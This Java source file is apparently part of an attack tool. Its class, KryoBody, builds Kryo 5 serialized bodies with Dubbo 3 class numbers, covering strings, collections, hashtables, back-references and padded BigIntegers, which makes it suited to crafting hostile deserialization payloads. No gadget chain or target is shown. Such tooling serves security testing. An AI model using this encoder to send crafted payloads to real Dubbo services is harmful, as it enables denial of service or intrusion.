package io.trunkline.interop.attack.wire;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * In Kryo 5 with the numbers of Dubbo 3. Objects and names of classes are numbered from 0 in each
 * item; numbers and nulls are no objects.
 */
final class KryoBody implements Body {

  private static final Map<String, Integer> NUMBERS =
      Map.of(
          "java.math.BigInteger", 13,
          "java.util.HashMap", 32,
          "java.util.ArrayList", 33,
          "java.util.LinkedList", 34,
          "java.util.HashSet", 35,
          "java.util.TreeSet", 36,
          "java.util.Hashtable", 37);
  private static final int STRING = 1;
  private static final int INTEGER = 0;
  private static final int BY_NAME = 1;
  private static final int NEW_OBJECT = 1;

  private final Bytes bytes = new Bytes();
  private final List<String> names = new ArrayList<>();
  private int objects;

  @Override
  public Body head(String text) {
    string(text);
    return this;
  }

  @Override
  public Body item() {
    names.clear();
    objects = 0;
    return this;
  }

  @Override
  public Body text(String text) {
    bytes.put(STRING + 2, NEW_OBJECT);
    objects++;
    string(text);
    return this;
  }

  private void string(String text) {
    int length = text.length();
    if (length > 1 && length <= 32) {
      bytes.ascii(text.substring(0, length - 1)).put(text.charAt(length - 1) | 0x80);
    } else {
      flagged(true, length + 1);
      bytes.ascii(text);
    }
  }

  /** Seven bits a byte, lowest first. */
  private void counted(int value) {
    int left = value;
    while (left >>> 7 != 0) {
      bytes.put(left & 0x7f | 0x80);
      left >>>= 7;
    }
    bytes.put(left);
  }

  /** The same with a flag in the first byte. */
  private void flagged(boolean flag, int value) {
    int first = value & 0x3f | (flag ? 0x80 : 0);
    if (value >>> 6 == 0) {
      bytes.put(first);
    } else {
      bytes.put(first | 0x40);
      counted(value >>> 6);
    }
  }

  private void type(String type) {
    Integer number = NUMBERS.get(type);
    if (number != null) {
      counted(number + 2);
      return;
    }
    bytes.put(BY_NAME);
    int known = names.indexOf(type);
    if (known >= 0) {
      counted(known);
    } else {
      counted(names.size());
      names.add(type);
      string(type);
    }
  }

  @Override
  public Body number(int value) {
    bytes.put(INTEGER + 2);
    counted(value << 1 ^ value >> 31);
    return this;
  }

  @Override
  public int list(String type, int size) {
    type(type);
    bytes.put(NEW_OBJECT);
    flagged(false, size + 1);
    return objects++;
  }

  @Override
  public int map(String type, int size) {
    type(type);
    bytes.put(NEW_OBJECT);
    counted(size + 1);
    return objects++;
  }

  @Override
  public Body end() {
    return this;
  }

  @Override
  public Body again(int number, String type) {
    type(type);
    counted(number + 2);
    return this;
  }

  @Override
  public int bigInteger(int size) {
    type("java.math.BigInteger");
    bytes.put(NEW_OBJECT);
    counted(size + 1);
    for (int i = 0; i < size; i++) {
      bytes.put(1 + i % 100);
    }
    return objects++;
  }

  @Override
  public Body object(String type) {
    type(type);
    bytes.put(NEW_OBJECT);
    objects++;
    return this;
  }

  @Override
  public int size() {
    return bytes.size();
  }

  @Override
  public byte[] bytes() {
    return bytes.copy();
  }
}
